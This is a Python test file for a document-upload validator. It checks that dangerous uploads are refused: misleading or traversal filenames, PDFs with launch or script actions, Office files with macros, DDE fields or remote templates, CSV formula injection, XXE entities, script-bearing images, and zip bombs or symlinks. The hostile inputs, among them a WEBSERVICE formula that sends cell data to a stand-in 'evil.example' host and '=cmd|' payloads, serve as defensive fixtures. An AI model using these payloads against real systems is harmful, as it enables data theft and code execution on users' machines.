"""What the library takes and refuses: kinds, names, broken files, macros, actions, bombs."""

from __future__ import annotations

import io
import struct
import zipfile

import evidence_samples as samples
import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from lingtan.errors import LingtanError
from lingtan_web.evidence import kinds
from lingtan_web.evidence.contents import recognise
from lingtan_web.evidence.texts import is_formula

GOOD = samples.good()


def codes(data: bytes, name: str) -> list[str]:
    with pytest.raises(LingtanError) as refused:
        recognise(data, name)
    return [fault.code for fault in refused.value.faults]


@pytest.mark.parametrize(("name", "data"), GOOD.items(), ids=GOOD)
def test_sound_files_are_known(name: str, data: bytes) -> None:
    found = recognise(data, name)
    assert name.rsplit(".", 1)[1] in found.kind.endings


def test_every_ending_taken_has_a_sample() -> None:
    assert {name.rsplit(".", 1)[1] for name in GOOD} == set(kinds.kind_of_ending())


def test_an_archive_says_how_many_files_it_holds() -> None:
    assert recognise(GOOD["year.zip"], "year.zip").members == len(GOOD) - 1
    assert recognise(GOOD["bill.pdf"], "2024年1月电费结算单.pdf").members == 0


@pytest.mark.parametrize("name", GOOD)
@pytest.mark.parametrize("other", GOOD)
def test_content_and_ending_must_agree(name: str, other: str) -> None:
    """Every kind under every other ending; text in any printed form is text."""
    one, two = (kinds.kind_of_ending()[n.rsplit(".", 1)[1]].name for n in (name, other))
    printed = {"text", "csv", "json"}
    if one == two or (one in printed and two in printed - {"json"}):
        recognise(GOOD[name], other)
    elif one in printed and two == "json":
        assert codes(GOOD[name], other) == ["evidence.damaged"]
    else:
        assert codes(GOOD[name], other) == ["evidence.content-differs"]


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("../../etc/passwd.pdf", "evidence.name-unsafe"),
        ("..\\..\\boot.pdf", "evidence.name-unsafe"),
        ("/etc/x.pdf", "evidence.name-unsafe"),
        ("C:x.pdf", "evidence.name-unsafe"),
        ("a..pdf", "evidence.name-unsafe"),
        (".pdf", "evidence.name-unsafe"),
        ("CON.pdf", "evidence.name-unsafe"),
        ("lpt1.2024.pdf", "evidence.name-unsafe"),
        ("x.pdf.", "evidence.name-unsafe"),
        ('a"b.pdf', "evidence.name-unsafe"),
        ("bill\r\nSet-Cookie: a=b.pdf", "evidence.name-hidden"),
        ("bill\0.pdf", "evidence.name-hidden"),
        ("invoice\u202efdp.exe", "evidence.name-hidden"),
        ("invoice\u2066x\u2069.pdf", "evidence.name-hidden"),
        ("in\u200bvoice.pdf", "evidence.name-hidden"),
        ("a" * 117 + ".pdf", "evidence.name-long"),
        ("invoice.exe.pdf", "evidence.name-two-endings"),
        ("photo.PHP.jpg", "evidence.name-two-endings"),
        ("x.svg .png", "evidence.name-two-endings"),
    ],
)
def test_names_that_mislead_are_refused(name: str, code: str) -> None:
    assert codes(GOOD["bill.pdf"], name)[0] == code


@pytest.mark.parametrize(
    "name",
    ["2024年1月（第1版）v1.2.pdf", "www.example.com.pdf", "a" * 116 + ".pdf", "BILL.PDF", "电费 单.pdf"],
)
def test_plain_names_are_taken(name: str) -> None:
    assert recognise(GOOD["bill.pdf"], name).kind.name == "pdf"


def test_a_name_in_another_form_of_unicode_is_the_same_name() -> None:
    assert recognise(GOOD["bill.pdf"], "re\u0301sume\u0301.pdf").kind.name == "pdf"


@pytest.mark.parametrize(
    ("ending", "code"),
    [
        ("doc", "evidence.kind-old-office"),
        ("xlsm", "evidence.kind-macros"),
        ("heic", "evidence.kind-picture"),
        ("svg", "evidence.kind-markup"),
        ("mp4", "evidence.kind-video"),
        ("eml", "evidence.kind-mail"),
        ("rar", "evidence.kind-archive"),
        ("exe", "evidence.kind-program"),
        ("dwg", "evidence.kind-not-taken"),
    ],
)
def test_kinds_not_taken_say_what_to_do_instead(ending: str, code: str) -> None:
    with pytest.raises(LingtanError) as refused:
        recognise(b"whatever", f"file.{ending}")
    (fault,) = refused.value.faults
    assert (
        fault.code == code and f".{ending}" in fault.words("zh").what + fault.words("zh").what + f".{ending}"
    )
    assert fault.words("en").mend


def test_no_ending() -> None:
    assert codes(GOOD["bill.pdf"], "bill") == ["evidence.name-no-ending"]


def test_faults_of_name_and_content_come_together() -> None:
    assert codes(samples.HTML, "a\u202eb.pdf") == ["evidence.name-hidden", "evidence.content-differs"]


def test_the_fault_says_what_the_content_is() -> None:
    with pytest.raises(LingtanError) as refused:
        recognise(samples.EXE, "账单.pdf")
    words = refused.value.faults[0].words("zh")
    assert words.what == "扩展名是 .pdf，内容却是Windows 程序"


def test_empty_and_large() -> None:
    assert codes(b"", "a.pdf") == ["evidence.empty"]
    most = kinds.limit("largest_bytes")
    assert codes(bytes(most + 1), "a.zip") == ["evidence.large"]
    assert codes(bytes(most), "a.zip") == ["evidence.content-differs"]


@pytest.mark.parametrize(
    "name", ["bill.pdf", "photo.png", "photo.jpg", "photo.webp", "bills.xlsx", "invoice.ofd"]
)
@given(cut=st.floats(0.05, 0.99))
def test_a_file_that_was_cut_off_is_refused(name: str, cut: float) -> None:
    data = GOOD[name]
    assert codes(data[: max(16, int(len(data) * cut))], name)[0] in (
        "evidence.damaged", "evidence.trailing", "evidence.content-differs",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (samples.pdf({"/OpenAction": samples.script_action()}), "evidence.pdf-active"),
        (
            samples.pdf({"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")}),
            "evidence.pdf-active",
        ),
        (samples.pdf({"/AcroForm": pikepdf.Dictionary(XFA="x")}), "evidence.pdf-active"),
        (samples.pdf({"/AA": pikepdf.Dictionary(WC=samples.script_action())}), "evidence.pdf-active"),
        (
            samples.pdf({"/X": pikepdf.Array([pikepdf.Array([samples.script_action()])])}),
            "evidence.pdf-active",
        ),
        (samples.pdf_with_file(), "evidence.pdf-files"),
        (samples.pdf(encryption=pikepdf.Encryption(user="secret", owner="o")), "evidence.pdf-locked"),
        (b"%PDF-1.7\nnothing\n%%EOF", "evidence.damaged"),
        (b"\n" + samples.pdf(), "evidence.content-differs"),
        (samples.pdf() + b"\n" + samples.HTML, "evidence.second-format"),
        (samples.pdf() + b"\nmore", "evidence.trailing"),
    ],
)
def test_pdf_that_acts_or_carries_files(data: bytes, code: str) -> None:
    assert codes(data, "a.pdf") == [code]


def test_pdf_locked_only_against_changes_is_taken() -> None:
    data = samples.pdf(encryption=pikepdf.Encryption(user="", owner="o"))
    assert recognise(data, "a.pdf").kind.name == "pdf"


def test_a_link_in_a_pdf_is_no_action_of_its_own() -> None:
    data = samples.pdf({"/X": pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org")})
    assert recognise(data + b"\r\n\0\0", "a.pdf").kind.name == "pdf"


def relations(target: str, kind: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{base}{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


RELS = "word/_rels/settings.xml.rels"


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"word/vbaProject.bin": b"x"}, "evidence.kind-macros"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "evidence.kind-macros"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "evidence.office-active"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "evidence.office-active"),
        ({"word/media/x.svg": samples.SVG}, "evidence.office-active"),
        ({"word/run.exe": samples.EXE}, "evidence.office-active"),
        ({RELS: relations("http://evil.example/t.dotm", "attachedTemplate")}, "evidence.office-outside"),
        ({RELS: relations("http://evil.example/x.png", "image")}, "evidence.office-outside"),
        ({RELS: relations("javascript:alert(1)", "hyperlink")}, "evidence.office-outside"),
        (
            {"word/footer9.xml": b"<w:instrText> DDEAUTO c:\\\\windows </w:instrText>"},
            "evidence.office-outside",
        ),
        ({"word/footer9.xml": b'<w:fldSimple w:instr=" INCLUDEPICTURE x"/>'}, "evidence.office-outside"),
        ({"word/bomb.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, "evidence.office-active"),
        ({"[Content_Types].xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}, "evidence.office-active"),
        (
            {"[Content_Types].xml": b'<T><O ContentType="application/x.macroEnabled.main+xml"/></T>'},
            "evidence.kind-macros",
        ),
        ({"[Content_Types].xml": b"<Types"}, "evidence.damaged"),
        ({"[Content_Types].xml": None}, "evidence.content-differs"),
    ],
)
def test_word_files_that_act_or_fetch(changes: dict[str, bytes | None], code: str) -> None:
    assert codes(samples.repack(GOOD["land.docx"], changes), "a.docx") == [code]


def test_links_that_people_follow_are_taken() -> None:
    for kind, target in (("hyperlink", "https://www.mee.gov.cn"), ("externalLinkPath", "book2.xlsx")):
        data = samples.repack(GOOD["land.docx"], {RELS: relations(target, kind)})
        assert recognise(data, "a.docx").kind.name == "docx"


def test_workbooks_that_call_out() -> None:
    assert codes(samples.workbook('=WEBSERVICE("http://evil.example/"&A1)'), "a.xlsx") == [
        "evidence.office-active"
    ]
    assert codes(samples.workbook("=cmd|'/C calc'!A0"), "a.xlsx") == ["evidence.office-active"]
    link = {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    assert codes(samples.repack(GOOD["bills.xlsx"], link), "a.xlsx") == ["evidence.office-active"]
    assert recognise(samples.workbook("=SUM(B2:B2)"), "a.xlsx").kind.name == "xlsx"


def test_ofd_with_a_false_root_or_a_script() -> None:
    assert codes(samples.repack(GOOD["invoice.ofd"], {"OFD.xml": b"<html/>"}), "a.ofd") == [
        "evidence.damaged"
    ]
    assert codes(samples.repack(GOOD["invoice.ofd"], {"x.js": b"1"}), "a.ofd") == ["evidence.office-active"]
    bomb = {"Doc_0/Document.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}
    assert codes(samples.repack(GOOD["invoice.ofd"], bomb), "a.ofd") == ["evidence.office-active"]


def test_bombs_of_pixels() -> None:
    assert codes(samples.png_of(40_000, 10), "a.png") == ["evidence.picture-large"]
    assert codes(samples.png_of(8_001, 8_000), "a.png") == ["evidence.picture-large"]
    assert codes(samples.png_of(200_000, 200_000), "a.png")[0] in (
        "evidence.picture-large",
        "evidence.damaged",
    )
    assert recognise(samples.png_of(30_000, 10), "a.png").kind.name == "png"


def test_frames_count_as_pixels() -> None:
    stream = io.BytesIO()
    frames = [Image.new("L", (3000, 3000), shade) for shade in range(0, 80, 10)]
    frames[0].save(stream, "PNG", save_all=True, append_images=frames[1:])
    assert codes(stream.getvalue(), "a.png") == ["evidence.picture-large"]


@pytest.mark.parametrize(
    "words",
    [samples.HTML, b"<SCRIPT src=//evil.example>", b"<?php system('id'); ?>", b"< script>alert(1)</script>"],
)
def test_code_of_pages_in_what_a_picture_says(words: bytes) -> None:
    assert codes(samples.png_said(words), "a.png") == ["evidence.second-format"]
    assert codes(samples.jpeg_said(words), "a.jpg") == ["evidence.second-format"]
    late = samples.picture("PNG")
    assert codes(samples.png_said(b"x" * 20_000 + words), "a.png") == ["evidence.second-format"]
    assert recognise(late, "a.png").kind.name == "png"


def test_what_telephones_put_behind_a_picture() -> None:
    plain = GOOD["photo.jpg"]
    samsung = (
        b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1700000000000SEFH\x6b\0\0\0\x01\0\0\0"
        + bytes(12)
        + b"\x18\0\0\0SEFT"
    )
    assert recognise(plain + samsung, "a.jpg").kind.name == "jpeg"
    assert recognise(plain + bytes(16) + plain, "a.jpg").kind.name == "jpeg"  # several exposures (MPF)
    motion = plain + b"MotionPhoto_Data\0\0\0\x18ftypmp42" + samsung
    assert codes(motion, "a.jpg") == ["evidence.trailing"]
    assert codes(plain + samples.second()["mp4"], "a.jpg") == ["evidence.trailing"]


def test_bombs_of_archives() -> None:
    heavy = samples.archive({"a.txt": b" " * 10_000_000})
    assert codes(heavy, "a.zip") == ["evidence.archive-bomb"]
    below = samples.archive({"a.txt": b" " * 9_999_999})
    assert recognise(below, "a.zip").members == 1
    many = samples.archive({f"{n}.txt": b"x" for n in range(2001)})
    assert codes(many, "a.zip") == ["evidence.archive-many"]
    assert recognise(samples.archive({f"{n}.txt": b"x" for n in range(2000)}), "a.zip").members == 2000


def test_an_archive_that_lies_about_its_sizes() -> None:
    data = bytearray(samples.archive({"a.txt": b" " * 1_000_000}))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    struct.pack_into("<I", data, 22, 10)
    assert codes(bytes(data), "a.zip") == ["evidence.damaged"]


def test_entries_that_overlap() -> None:
    data = bytearray(samples.archive({"a.txt": b"x" * 50, "b.txt": b"x" * 50}, method=zipfile.ZIP_STORED))
    at = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 42, 0)  # the second entry is said to be the first
    assert codes(bytes(data), "a.zip") == ["evidence.damaged"]


def test_a_name_that_differs_between_entry_and_directory() -> None:
    data = samples.archive({"a.txt": b"x"}).replace(b"a.txt", b"a.exe", 1)
    assert codes(data, "a.zip") == ["evidence.damaged"]


@pytest.mark.parametrize("name", ["../x.txt", "/x.txt", "a\\x.txt", "C:/x.txt", "a/../../x.txt"])
def test_names_in_archives_that_lead_out(name: str) -> None:
    assert codes(samples.archive({name: b"x"}), "a.zip") == ["evidence.archive-name"]


def test_links_in_archives() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as out:
        link = zipfile.ZipInfo("x.txt")
        link.external_attr = 0o120777 << 16
        out.writestr(link, "/etc/passwd")
    assert codes(stream.getvalue(), "a.zip") == ["evidence.archive-name"]


def test_the_same_name_twice() -> None:
    assert codes(samples.archive({"A.txt": b"x", "a.TXT": b"y"}), "a.zip") == ["evidence.archive-twice"]


def test_archives_within_archives_and_locked_ones() -> None:
    inner = samples.archive({"a.txt": b"x"})
    assert codes(samples.archive({"b.zip": inner}), "a.zip") == ["evidence.archive-nested"]
    locked = bytearray(inner)
    locked[6] |= 1
    locked[locked.rfind(b"PK\x01\x02") + 8] |= 1
    assert codes(bytes(locked), "a.zip") == ["evidence.archive-encrypted"]
    assert codes(samples.archive({"a.txt": b"x"}, method=zipfile.ZIP_LZMA), "a.zip") == [
        "evidence.archive-method"
    ]
    assert codes(samples.archive({}), "a.zip")[0] in ("evidence.content-differs", "evidence.empty")


def test_what_could_not_be_uploaded_alone_cannot_come_in_an_archive() -> None:
    with pytest.raises(LingtanError) as refused:
        recognise(samples.archive({"d/ok.txt": b"x", "d/run.exe": samples.EXE}), "a.zip")
    (fault,) = refused.value.faults
    assert (fault.code, fault.place.file) == ("evidence.kind-program", "a.zip › d/run.exe")


def test_chinese_names_of_old_windows_programs() -> None:
    data = samples.archive({"AAAA.txt": b"x"}).replace(b"AAAA", "电费".encode("gbk"))
    assert recognise(data, "a.zip").members == 1


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"a\0b", "a.txt", "evidence.text-binary"),
        (b"\x81\xff\xff", "a.txt", "evidence.text-encoding"),
        (b"\xff\xfea", "a.txt", "evidence.text-encoding"),
        (samples.HTML, "a.txt", "evidence.second-format"),
        (samples.SVG, "a.md", "evidence.second-format"),
        ("\ufeff<script>".encode("utf-16"), "a.txt", "evidence.second-format"),
        (b"#!/bin/sh\n", "a.txt", "evidence.content-differs"),
        (b"{", "a.json", "evidence.damaged"),
        (b"[" * 100_000, "a.json", "evidence.damaged"),
        (b"a,b\n1,=cmd|'/C calc'!A0\n", "a.csv", "evidence.text-formula"),
        (b"a;b\n1;=1+1\n", "a.csv", "evidence.text-formula"),
        (b'a\n"x\t@SUM(1+1)*cmd|calc"\n', "a.csv", "evidence.text-formula"),
        (b" " * (20 * 1_048_576 + 1), "a.txt", "evidence.text-large"),
    ],
)
def test_text_that_is_more_than_text(data: bytes, name: str, code: str) -> None:
    assert codes(data, name) == [code]


@pytest.mark.parametrize(
    ("cell", "runs"),
    [
        ("=1+1", True), ("=HYPERLINK(\"http://x\")", True), ("＝1", True), (" =1", True), ("\t=1", True),
        ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True), ("-2+3+cmd|' /C calc'!A0", True), ("-A1!B2", True),
        ("-3.2", False), ("+5%", False), ("-1,234.50", False), ("+86-21-5555 1234", False), ("-", False),
        ('="00123"', False), ("@张三", False), ("-无", False), ("a=b", False), ("", False), ("1-2", False),
    ],
)  # fmt: skip
def test_formulas_in_cells(cell: str, runs: bool) -> None:
    assert is_formula(cell) is runs
